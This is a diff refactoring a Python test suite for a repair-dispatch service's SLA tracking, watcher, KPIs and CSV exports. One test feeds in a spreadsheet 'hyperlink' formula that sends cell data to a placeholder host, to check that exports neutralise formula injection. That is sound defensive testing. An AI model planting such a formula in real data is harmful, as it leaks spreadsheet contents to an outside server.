@@ -11,9 +11,12 @@ import time as time_module
 from datetime import UTC, date, datetime, time, timedelta
 
 import pytest
-from conftest import PG_URL, T0, job_body
 from fastapi.testclient import TestClient
 from sqlalchemy import func, select
+from support.api import job_body
+from support.database import PG_URL
+from support.moments import T0, iso
+from support.workflow import add_outlet, assign, assigned_job, event_types, events_of, tap
 
 from dispatch.app import create_app
 from dispatch.config import Settings
@@ -31,32 +34,9 @@ def watch(api, settings=None):  # type: ignore[no-untyped-def]
     return watcher.run_pass(api.database, api.clock.now, settings or Settings())
 
 
-def timeline(api, job_id, who="dispatcher"):  # type: ignore[no-untyped-def]
-    return [e["type"] for e in api.get(f"/v1/jobs/{job_id}/events", who=who, params={"limit": 200}).json()["items"]]
-
-
-def events_of(api, job_id, type_):  # type: ignore[no-untyped-def]
-    items = api.get(f"/v1/jobs/{job_id}/events", params={"limit": 200}).json()["items"]
-    return [e for e in items if e["type"] == type_]
-
-
-def status(api, job_id, to, tech, **extra):  # type: ignore[no-untyped-def]
-    body = {"status": to, "at": api.clock.now().isoformat(), **extra}
-    r = api.post(f"/v1/jobs/{job_id}/status", body, headers=api.as_technician(tech["id"]))
-    assert r.status_code == 200, r.text
-    return r.json()
-
-
-def assign(api, job_id, tech):  # type: ignore[no-untyped-def]
-    r = api.post(f"/v1/jobs/{job_id}/assign", {"technician_id": tech["id"], "reason": "test"})
-    assert r.status_code == 200, r.text
-    return r.json()
-
-
-def assigned_job(api, **fields):  # type: ignore[no-untyped-def]
-    tech = api.technician(capacity=10)
-    job = api.job(**fields)
-    return tech, assign(api, job["id"], tech)
+def sla_events(api, job):  # type: ignore[no-untyped-def]
+    """The types of the job's SLA events (warnings, breaches, pauses...), oldest first."""
+    return [t for t in event_types(api, job) if t.startswith("sla_")]
 
 
 # --- policies ------------------------------------------------------------------------------
@@ -66,7 +46,7 @@ def test_a_standard_job_must_be_complete_within_24_hours_of_the_report(api):
     job = api.job(reported_at=(T0 - timedelta(hours=1)).isoformat())
     sla = job["sla"]
     assert sla["policy"] == "standard"
-    assert sla["due_at"] == (T0 + timedelta(hours=23)).isoformat().replace("+00:00", "Z")
+    assert sla["due_at"] == iso(T0 + timedelta(hours=23))
     assert [d["deadline"] for d in sla["deadlines"]] == ["completion"]
     assert sla["next_deadline"] == "completion" and sla["state"] == "on_track"
     assert sla["time_left_seconds"] == 23 * 3600
@@ -140,15 +120,16 @@ def test_a_job_goes_at_risk_at_75_percent_and_breached_at_the_deadline_by_the_cl
 
 def test_the_sql_filter_and_the_job_agree_on_every_state(api):
     tech = api.technician(capacity=20)
+    phone = api.as_technician(tech["id"])
     jobs = [
         api.job(reported_at=(T0 - timedelta(hours=h)).isoformat(), service_tier=tier)
         for h in (0, 10, 19, 25)
         for tier in ("standard", "express")
     ]
-    assign(api, jobs[0]["id"], tech)
-    status(api, jobs[0]["id"], "on_site", tech)
-    status(api, jobs[0]["id"], "completed", tech)
-    api.post(f"/v1/jobs/{jobs[1]['id']}/status", {"status": "cancelled", "at": T0.isoformat()})
+    assign(api, jobs[0], tech)
+    tap(api, jobs[0], "on_site", phone=phone)
+    tap(api, jobs[0], "completed", phone=phone)
+    tap(api, jobs[1], "cancelled", at=T0)
     api.clock.advance(hours=1)
     for state in SlaState:
         listed = {j["id"] for j in api.get("/v1/jobs", params={"sla_state": state.value, "limit": 100}).json()["items"]}
@@ -157,25 +138,25 @@ def test_the_sql_filter_and_the_job_agree_on_every_state(api):
 
 
 def test_arriving_late_misses_the_arrival_target_for_good(api):
-    tech, job = assigned_job(api, service_tier="express")
+    tech, job, phone = assigned_job(api, service_tier="express")
     api.clock.advance(hours=2, minutes=10)
-    status(api, job["id"], "en_route", tech)
-    body = status(api, job["id"], "on_site", tech)
+    tap(api, job, "en_route", phone=phone)
+    body = tap(api, job, "on_site", phone=phone)
     assert body["sla"]["deadlines"][0]["outcome"] == "missed"
     assert body["sla"]["state"] == "breached" and "arrival_missed" in body["sla"]["reasons"]
     assert body["sla"]["next_deadline"] == "completion"
-    done = status(api, job["id"], "completed", tech)
+    done = tap(api, job, "completed", phone=phone)
     assert done["sla"]["state"] == "missed"  # on time for completion, but the arrival was missed
-    assert "sla_arrival_missed" in timeline(api, job["id"])
+    assert "sla_arrival_missed" in event_types(api, job)
 
 
 def test_arriving_in_time_then_finishing_in_time_meets_the_promise(api):
-    tech, job = assigned_job(api, service_tier="express")
+    tech, job, phone = assigned_job(api, service_tier="express")
     api.clock.advance(hours=1)
-    body = status(api, job["id"], "on_site", tech)
+    body = tap(api, job, "on_site", phone=phone)
     assert body["sla"]["deadlines"][0]["outcome"] == "met" and body["sla"]["state"] == "on_track"
     api.clock.advance(hours=3)
-    assert status(api, job["id"], "completed", tech)["sla"]["state"] == "met"
+    assert tap(api, job, "completed", phone=phone)["sla"]["state"] == "met"
 
 
 # --- the watcher ---------------------------------------------------------------------------
@@ -190,11 +171,9 @@ def test_the_watcher_records_each_warning_at_risk_and_breach_once_at_the_moment_
     assert watch(api).fired == 0  # and never again
     assert watch(api).fired == 0
     fired = [
-        (e["type"], e["occurred_at"], e["data"]["notify"])
-        for e in api.get(f"/v1/jobs/{job['id']}/events").json()["items"]
-        if e["type"].startswith("sla_")
+        (e["type"], e["occurred_at"], e["data"]["notify"]) for e in events_of(api, job) if e["type"].startswith("sla_")
     ]
-    stamp = lambda h: (T0 + timedelta(hours=h)).isoformat().replace("+00:00", "Z")
+    stamp = lambda h: iso(T0 + timedelta(hours=h))
     assert fired == [
         ("sla_warning", stamp(12), "technician"),
         ("sla_at_risk", stamp(18), "dispatcher"),
@@ -212,7 +191,7 @@ def test_a_watcher_that_was_down_catches_up_on_start_with_a_new_connection(api, 
         fresh.dispose()
     assert result.fired == 9
     for job in jobs:
-        assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == [
+        assert sla_events(api, job) == [
             "sla_warning",
             "sla_at_risk",
             "sla_breached",
@@ -220,25 +199,21 @@ def test_a_watcher_that_was_down_catches_up_on_start_with_a_new_connection(api, 
 
 
 def test_meeting_a_deadline_makes_its_checkpoints_moot(api):
-    tech, job = assigned_job(api, service_tier="express")
-    status(api, job["id"], "on_site", tech)
-    status(api, job["id"], "completed", tech)
+    tech, job, phone = assigned_job(api, service_tier="express")
+    tap(api, job, "on_site", phone=phone)
+    tap(api, job, "completed", phone=phone)
     api.clock.advance(days=2)
     assert watch(api).fired == 0
-    assert not [t for t in timeline(api, job["id"]) if t.startswith("sla_")]
+    assert not sla_events(api, job)
 
 
 def test_a_job_fixed_late_before_the_watcher_passed_still_records_its_breach_once(api):
-    tech, job = assigned_job(api)
+    tech, job, phone = assigned_job(api)
     api.clock.advance(hours=25)  # the watcher was down all day
-    status(api, job["id"], "on_site", tech)
-    status(api, job["id"], "completed", tech)
-    fired = [
-        (e["type"], e["occurred_at"])
-        for e in api.get(f"/v1/jobs/{job['id']}/events").json()["items"]
-        if e["type"].startswith("sla_")
-    ]
-    stamp = lambda h: (T0 + timedelta(hours=h)).isoformat().replace("+00:00", "Z")
+    tap(api, job, "on_site", phone=phone)
+    tap(api, job, "completed", phone=phone)
+    fired = [(e["type"], e["occurred_at"]) for e in events_of(api, job) if e["type"].startswith("sla_")]
+    stamp = lambda h: iso(T0 + timedelta(hours=h))
     assert fired == [("sla_warning", stamp(12)), ("sla_at_risk", stamp(18)), ("sla_breached", stamp(24))]
     assert watch(api).fired == 0  # and not again when the watcher comes back
     escalations = api.get("/v1/sla/escalations", who="supervisor").json()["items"]
@@ -246,12 +221,12 @@ def test_a_job_fixed_late_before_the_watcher_passed_still_records_its_breach_onc
 
 
 def test_a_job_fixed_in_time_while_the_watcher_was_down_fires_nothing_late(api):
-    tech, job = assigned_job(api)
+    tech, job, phone = assigned_job(api)
     api.clock.advance(hours=11)
-    status(api, job["id"], "on_site", tech)
+    tap(api, job, "on_site", phone=phone)
     api.clock.advance(hours=5)  # the phone was offline: the completion at 11 h 30 arrives at 16 h
-    status(api, job["id"], "completed", tech, at=(T0 + timedelta(hours=11, minutes=30)).isoformat())
-    assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == []
+    tap(api, job, "completed", phone=phone, at=T0 + timedelta(hours=11, minutes=30))
+    assert sla_events(api, job) == []
     assert api.get(f"/v1/jobs/{job['id']}").json()["sla"]["state"] == "met"
     assert watch(api).fired == 0
 
@@ -259,18 +234,15 @@ def test_a_job_fixed_in_time_while_the_watcher_was_down_fires_nothing_late(api):
 def test_a_cancellation_after_the_deadline_keeps_the_breach_the_customer_lived_through(api):
     job = api.job()
     api.clock.advance(hours=30)
-    r = api.post(f"/v1/jobs/{job['id']}/status", {"status": "cancelled", "at": api.clock.now().isoformat()})
-    assert r.status_code == 200, r.text
-    assert events_of(api, job["id"], "sla_breached")[0]["occurred_at"] == (
-        T0 + timedelta(hours=24)
-    ).isoformat().replace("+00:00", "Z")
+    tap(api, job, "cancelled")  # by the dispatcher
+    assert events_of(api, job, "sla_breached")[0]["occurred_at"] == iso(T0 + timedelta(hours=24))
 
 
 def test_a_return_visit_after_the_deadline_is_one_breach_fired_at_once_and_never_again(api):
-    tech, job = assigned_job(api)
-    status(api, job["id"], "on_site", tech)
+    tech, job, phone = assigned_job(api)
+    tap(api, job, "on_site", phone=phone)
     api.clock.advance(hours=2)
-    status(api, job["id"], "completed", tech)  # met, so its warnings and breach are moot
+    tap(api, job, "completed", phone=phone)  # met, so its warnings and breach are moot
     api.clock.advance(hours=28)  # the fault comes back on day two
     assert watch(api).fired == 0
     reopened_at = api.clock.now()
@@ -279,31 +251,29 @@ def test_a_return_visit_after_the_deadline_is_one_breach_fired_at_once_and_never
     assert r.json()["job"]["sla"]["state"] == "breached"
     assert watch(api).fired == 1
     assert watch(api).fired == 0
-    breaches = events_of(api, job["id"], "sla_breached")
-    assert [(e["occurred_at"], e["data"]["notify"]) for e in breaches] == [
-        (reopened_at.isoformat().replace("+00:00", "Z"), "supervisor")
-    ]
-    assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == ["sla_breached"]
+    breaches = events_of(api, job, "sla_breached")
+    assert [(e["occurred_at"], e["data"]["notify"]) for e in breaches] == [(iso(reopened_at), "supervisor")]
+    assert sla_events(api, job) == ["sla_breached"]
     # The second fix ends the race; nothing else fires.
-    status(api, job["id"], "on_site", tech)
-    status(api, job["id"], "completed", tech)
+    tap(api, job, "on_site", phone=phone)
+    tap(api, job, "completed", phone=phone)
     api.clock.advance(days=2)
     assert watch(api).fired == 0
 
 
 def test_a_return_visit_before_the_deadline_races_it_again_with_its_checkpoints_on_time(api):
-    tech, job = assigned_job(api)
-    status(api, job["id"], "on_site", tech)
+    tech, job, phone = assigned_job(api)
+    tap(api, job, "on_site", phone=phone)
     api.clock.advance(hours=1)
-    status(api, job["id"], "completed", tech)
+    tap(api, job, "completed", phone=phone)
     api.clock.advance(hours=14)  # 15 h after the report, past the 50 % warning while it was fixed
     assert api.post(f"/v1/jobs/{job['id']}/return-visits", {"reason": "callback_not_fixed"}).status_code == 201
     assert watch(api).fired == 1  # the highest level passed (the warning), at once
     api.clock.advance(hours=3)  # 18 h: 75 %
     assert watch(api).fired == 1
-    assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == ["sla_warning", "sla_at_risk"]
-    status(api, job["id"], "on_site", tech)
-    status(api, job["id"], "completed", tech)
+    assert sla_events(api, job) == ["sla_warning", "sla_at_risk"]
+    tap(api, job, "on_site", phone=phone)
+    tap(api, job, "completed", phone=phone)
     api.clock.advance(days=1)
     assert watch(api).fired == 0  # fixed in time: the breach is moot again
 
@@ -322,7 +292,7 @@ def test_a_breach_lands_in_the_supervisors_queue_until_acknowledged(api):
     again = api.post(f"/v1/sla/escalations/{queue[0]['id']}/acknowledge", {}, who="supervisor")
     assert again.status_code == 409 and again.json()["code"] == "already-acknowledged"
     assert api.post("/v1/sla/escalations/999/acknowledge", {}, who="supervisor").status_code == 404
-    assert "sla_escalation_acknowledged" in timeline(api, job["id"])
+    assert "sla_escalation_acknowledged" in event_types(api, job)
 
 
 def test_two_watchers_racing_record_every_checkpoint_exactly_once(api, settings):
@@ -368,28 +338,28 @@ def test_two_watchers_racing_record_every_checkpoint_exactly_once(api, settings)
 
 def test_an_appointment_that_ends_with_nobody_on_site_is_a_no_show_the_dispatcher_hears_of(api):
     start = T0 + timedelta(hours=2)
-    _tech, job = assigned_job(
+    _, job, _ = assigned_job(
         api, appointment={"start": start.isoformat(), "end": (start + timedelta(hours=2)).isoformat()}
     )
     api.clock.advance(hours=4, minutes=1)
     body = api.get(f"/v1/jobs/{job['id']}").json()
     assert body["sla"]["state"] == "at_risk" and body["sla"]["reasons"] == ["no_show"]
     assert watch(api).fired == 1
-    no_show = events_of(api, job["id"], "sla_no_show")
+    no_show = events_of(api, job, "sla_no_show")
     assert len(no_show) == 1 and no_show[0]["data"]["notify"] == "dispatcher"
     assert job["id"] in [i["job_id"] for i in api.get("/v1/sla/at-risk").json()["items"]]
 
 
 def test_a_technician_on_site_within_the_window_is_no_no_show(api):
     start = T0 + timedelta(hours=1)
-    tech, job = assigned_job(
+    tech, job, phone = assigned_job(
         api, appointment={"start": start.isoformat(), "end": (start + timedelta(hours=2)).isoformat()}
     )
     api.clock.advance(hours=2)
-    status(api, job["id"], "on_site", tech)
+    tap(api, job, "on_site", phone=phone)
     api.clock.advance(hours=2)
     watch(api)
-    assert not events_of(api, job["id"], "sla_no_show")
+    assert not events_of(api, job, "sla_no_show")
     assert api.get(f"/v1/jobs/{job['id']}").json()["sla"]["state"] == "on_track"
 
 
@@ -407,11 +377,11 @@ def test_a_customer_who_asks_for_a_later_visit_stops_the_clock_and_the_deadline_
     assert paused["state"] == "on_track" and paused["time_left_seconds"] == 14 * 3600
     assert watch(api).fired == 0  # nothing fires while the clock is stopped
     resumed = api.post(f"/v1/jobs/{job['id']}/sla/resume").json()["sla"]
-    assert resumed["due_at"] == (T0 + timedelta(hours=54)).isoformat().replace("+00:00", "Z")
+    assert resumed["due_at"] == iso(T0 + timedelta(hours=54))
     assert resumed["time_left_seconds"] == 14 * 3600 and resumed["paused_since"] is None
     api.clock.advance(hours=5)
     assert watch(api).fired == 1  # the warning, at 12 h of counted time (10 + 2 after the pause)
-    assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == ["sla_paused", "sla_resumed", "sla_warning"]
+    assert sla_events(api, job) == ["sla_paused", "sla_resumed", "sla_warning"]
 
 
 def test_only_reasons_the_policy_allows_can_stop_the_clock(api):
@@ -427,27 +397,27 @@ def test_only_reasons_the_policy_allows_can_stop_the_clock(api):
 
 
 def test_news_from_the_technician_ends_a_pause_and_the_time_went_to_the_customer(api):
-    tech, job = assigned_job(api)
+    tech, job, phone = assigned_job(api)
     api.post(f"/v1/jobs/{job['id']}/sla/pause", {"reason": "customer_unreachable"})
     api.clock.advance(hours=3)
-    body = status(api, job["id"], "en_route", tech)
+    body = tap(api, job, "en_route", phone=phone)
     assert body["sla"]["paused_since"] is None
-    assert body["sla"]["due_at"] == (T0 + timedelta(hours=27)).isoformat().replace("+00:00", "Z")
+    assert body["sla"]["due_at"] == iso(T0 + timedelta(hours=27))
     with api.database.session(write=False) as session:
         row = session.get(Job, job["id"])
         assert row.seconds_customer == 3 * 3600 and row.seconds_assigned == 0
 
 
 def test_a_job_completed_while_paused_is_held_against_its_moved_deadline(api):
-    tech, job = assigned_job(api)
+    tech, job, phone = assigned_job(api)
     api.clock.advance(hours=1)
-    status(api, job["id"], "on_site", tech)
+    tap(api, job, "on_site", phone=phone)
     api.post(f"/v1/jobs/{job['id']}/sla/pause", {"reason": "customer_requested_later", "note": "back on Friday"})
     api.clock.advance(hours=30)  # the customer is back; the fix takes no time at all
-    body = status(api, job["id"], "completed", tech)
-    assert body["sla"]["due_at"] == (T0 + timedelta(hours=54)).isoformat().replace("+00:00", "Z")
+    body = tap(api, job, "completed", phone=phone)
+    assert body["sla"]["due_at"] == iso(T0 + timedelta(hours=54))
     assert body["sla"]["state"] == "met", body["sla"]
-    assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == ["sla_paused", "sla_resumed"]
+    assert sla_events(api, job) == ["sla_paused", "sla_resumed"]
 
 
 # --- business hours ------------------------------------------------------------------------
@@ -532,15 +502,15 @@ def test_a_technician_with_more_work_than_time_left_puts_the_last_jobs_at_risk(a
     jobs = []
     for _ in range(4):
         job = api.job(reported_at=(T0 - timedelta(hours=20)).isoformat())  # 4 h left each
-        assign(api, job["id"], tech)
+        assign(api, job, tech)
         jobs.append(job)
     result = watch(api, Settings(sla_hours_per_job=1.5))
     assert result.predicted == 2  # 1.5 h, 3 h fit in 4 h; 4.5 h and 6 h do not
     predicted = [api.get(f"/v1/jobs/{j['id']}").json()["sla"]["predicted_breach"] for j in jobs]
     assert predicted == [None, None, "technician_overloaded", "technician_overloaded"]
-    assert events_of(api, jobs[3]["id"], "breach_predicted")[0]["data"]["reason"] == "technician_overloaded"
+    assert events_of(api, jobs[3], "breach_predicted")[0]["data"]["reason"] == "technician_overloaded"
     # One job is cancelled: the rest fit again and the prediction is withdrawn.
-    api.post(f"/v1/jobs/{jobs[0]['id']}/status", {"status": "cancelled", "at": T0.isoformat()})
+    tap(api, jobs[0], "cancelled", at=T0)
     assert watch(api, Settings(sla_hours_per_job=1.5)).cleared == 1
     assert watch(api, Settings(sla_hours_per_job=1.5)).predicted == 0  # nothing twice
 
@@ -550,8 +520,8 @@ def test_a_technician_whose_shift_ends_before_the_work_is_done_puts_it_at_risk(a
     ending = api.technician(capacity=5, shift={"start": "07:00", "end": "11:00", "timezone": "Europe/Warsaw"})
     all_day = api.technician(capacity=5)
     late, fine = (api.job(reported_at=(T0 - timedelta(hours=20)).isoformat()) for _ in range(2))
-    assign(api, late["id"], ending)
-    assign(api, fine["id"], all_day)
+    assign(api, late, ending)
+    assign(api, fine, all_day)
     assert watch(api, Settings(sla_hours_per_job=1.5)).predicted == 1
     assert api.get(f"/v1/jobs/{late['id']}").json()["sla"]["predicted_breach"] == "technician_overloaded"
     assert api.get(f"/v1/jobs/{fine['id']}").json()["sla"]["predicted_breach"] is None
@@ -571,7 +541,7 @@ def test_an_express_job_nobody_can_reach_in_time_is_flagged_at_once(api):
 def test_a_prediction_of_the_parts_domain_is_never_overwritten_by_the_watcher(api):
     tech = api.technician(capacity=20)
     job = api.job(reported_at=(T0 - timedelta(hours=23)).isoformat())
-    assign(api, job["id"], tech)
+    assign(api, job, tech)
     with api.database.transaction() as session:
         session.get(Job, job["id"]).predicted_breach = "parts_eta_after_due"
     watch(api, Settings(sla_hours_per_job=2))
@@ -583,22 +553,23 @@ def test_a_prediction_of_the_parts_domain_is_never_overwritten_by_the_watcher(ap
 
 def test_kpis_count_the_24_hour_rate_compliance_and_where_the_time_went(api):
     tech = api.technician(capacity=20, home_branch="WAW")
+    phone = api.as_technician(tech["id"])
     fast = api.job()
     api.clock.advance(hours=1)
-    assign(api, fast["id"], tech)  # 1 h waiting for dispatch
+    assign(api, fast, tech)  # 1 h waiting for dispatch
     api.clock.advance(minutes=30)
-    status(api, fast["id"], "en_route", tech)  # 30 min assigned
+    tap(api, fast, "en_route", phone=phone)  # 30 min assigned
     api.clock.advance(minutes=30)
-    status(api, fast["id"], "on_site", tech)  # 30 min travelling
+    tap(api, fast, "on_site", phone=phone)  # 30 min travelling
     api.clock.advance(hours=1)
-    status(api, fast["id"], "completed", tech)  # 1 h on site; 3 h in all
+    tap(api, fast, "completed", phone=phone)  # 1 h on site; 3 h in all
     slow = api.job(service_tier="express")
-    assign(api, slow["id"], tech)
+    assign(api, slow, tech)
     api.clock.advance(hours=26)
-    status(api, slow["id"], "on_site", tech)
-    status(api, slow["id"], "completed", tech)  # 26 h: missed arrival and completion
+    tap(api, slow, "on_site", phone=phone)
+    tap(api, slow, "completed", phone=phone)  # 26 h: missed arrival and completion
     cancelled = api.job()
-    api.post(f"/v1/jobs/{cancelled['id']}/status", {"status": "cancelled", "at": api.clock.now().isoformat()})
+    tap(api, cancelled, "cancelled")
     api.job(product={"category": "fridge"})  # still open, just reported
 
     r = api.get("/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01"})
@@ -650,7 +621,7 @@ def test_the_monthly_review_gets_a_csv(api):
 
 
 def test_a_category_typed_as_a_formula_stays_text_in_the_monthly_spreadsheet(api):
-    shop = api.post("/v1/outlets", {"code": "shop-f", "name": "F"}, who="admin").json()
+    shop = add_outlet(api, "shop-f", "F")
     formula = '=hyperlink("http://x.example/?"&a1,"open")'
     api.job(headers=api.as_outlet(shop["id"]), product={"category": formula})
     api.job(product={"category": "-oven"})
@@ -703,10 +674,10 @@ def test_the_embedded_watcher_runs_inside_the_app_and_catches_up_when_it_starts(
     with TestClient(app):
         # The first pass starts with the app; wait for it (bounded), the clock does not move.
         for _ in range(200):
-            if len([t for t in timeline(api, job["id"]) if t.startswith("sla_")]) == 3:
+            if len(sla_events(api, job)) == 3:
                 break
             time_module.sleep(0.05)
-    assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == [
+    assert sla_events(api, job) == [
         "sla_warning",
         "sla_at_risk",
         "sla_breached",
@@ -725,7 +696,7 @@ def test_dispatch_worker_once_fires_what_is_due_and_a_second_run_finds_nothing(a
     assert "fired 3" in first.output
     second = CliRunner().invoke(cli, ["worker", "--once"])
     assert "fired 0" in second.output
-    assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == [
+    assert sla_events(api, job) == [
         "sla_warning",
         "sla_at_risk",
         "sla_breached",
@@ -755,11 +726,12 @@ def test_the_at_risk_queue_pages_through_every_job_once_in_order(api):
 
 def test_kpis_count_first_time_fixes_return_visits_and_what_customers_said_on_the_phone(api):
     tech = api.technician(capacity=20)
+    phone = api.as_technician(tech["id"])
     first_time, came_back = api.job(), api.job()
     for job in (first_time, came_back):
-        assign(api, job["id"], tech)
-        status(api, job["id"], "on_site", tech)
-        status(api, job["id"], "completed", tech)
+        assign(api, job, tech)
+        tap(api, job, "on_site", phone=phone)
+        tap(api, job, "completed", phone=phone)
     api.post(f"/v1/jobs/{first_time['id']}/callbacks", {"reached": False})
     api.post(f"/v1/jobs/{first_time['id']}/callbacks", {"reached": True, "fixed": True, "satisfaction": 5})
     r = api.post(f"/v1/jobs/{came_back['id']}/callbacks", {"reached": True, "fixed": False, "satisfaction": 2})
